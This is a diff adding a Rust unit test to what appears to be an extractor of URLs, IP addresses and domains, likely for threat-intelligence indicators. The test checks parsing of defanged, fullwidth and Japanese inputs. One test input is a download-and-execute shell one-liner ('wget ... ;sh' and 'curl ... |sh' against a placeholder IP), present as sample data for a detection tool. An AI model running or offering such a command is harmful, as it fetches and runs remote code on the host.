@@ -157,6 +157,41 @@ fn urls_are_found_with_their_hosts() {
 }
 
 #[test]
+fn what_follows_a_url_does_not_stick() {
+    check(
+        "wget http://203.0.113.5/a;sh x&&curl http://203.0.113.5/b.sh|sh",
+        &[
+            "url http://203.0.113.5/a",
+            "ipv4 203.0.113.5",
+            "url http://203.0.113.5/b.sh",
+        ],
+    );
+    check(
+        "http://example.com/a;jsessionid=1?b=2;c=3",
+        &[
+            "url http://example.com/a;jsessionid=1?b=2;c=3",
+            "domain example.com",
+        ],
+    );
+    check(
+        "203.0.113.5/198.51.100.7",
+        &["ipv4 203.0.113.5", "ipv4 198.51.100.7"],
+    );
+    check(
+        "203.0.113.5／198.51.100.7",
+        &["ipv4 203.0.113.5", "ipv4 198.51.100.7"],
+    );
+    check(
+        "http://example[.]com[/]path",
+        &["url http://example.com/path", "domain example.com"],
+    );
+    check(
+        "https://ja.wikipedia.org/wiki/日本",
+        &["url https://ja.wikipedia.org/wiki/", "domain ja.wikipedia.org"],
+    );
+}
+
+#[test]
 fn mail_addresses_are_found() {
     check("Taro.Yamada@Example.co.jp", &["email taro.yamada@example.co.jp"]);
     check("連絡先taro@example.comまで", &["email taro@example.com"]);
